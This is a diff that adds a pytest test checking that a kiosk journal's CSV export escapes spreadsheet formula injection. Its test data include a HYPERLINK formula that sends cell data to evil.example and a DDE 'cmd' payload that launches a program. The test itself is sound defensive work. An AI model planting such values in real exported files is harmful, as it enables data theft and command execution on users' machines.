@@ -234,3 +234,32 @@ def test_works_under_the_kiosk_parser(config: Config, capsys: pytest.CaptureFixt
     args = cli.build_parser().parse_args(["journal", "--json", "show", "2"])
     assert journal_cli.run(args, config) == 0
     assert json.loads(capsys.readouterr().out)["sale"]["amount"] == "100.50"
+
+
+@pytest.mark.parametrize(
+    ("external_id", "cell"),
+    [
+        ('=HYPERLINK("http://evil.example/?x="&A1,"refund")', "'=HYPERLINK(\"http://evil"),
+        ("+1+cmd|' /C calc'!A0", "'+1+cmd"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1:A9)", "'@SUM"),
+        ("\tTAB", "'\tTAB"),
+        ("-250.00", "-250.00"),  # a negative number stays a number
+        ("order-17", "order-17"),
+    ],
+)
+def test_csv_cells_cannot_become_formulas(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], external_id: str, cell: str
+) -> None:
+    with Journal.open(tmp_path) as j:
+        j.begin_sale(
+            Decimal("250"),
+            external_id=external_id,
+            source="host",
+            scheme="standard",
+            device_id="KIOSK-001",
+        )
+    code, out, _ = cli(Config().replace("storage", data_dir=str(tmp_path)), capsys, "--csv")
+    rows = list(csv.DictReader(io.StringIO(out)))
+    assert code == 0 and rows[0]["external_id"].startswith(cell)
+    assert rows[0]["amount"] == "250"  # the journal keeps the amount as typed
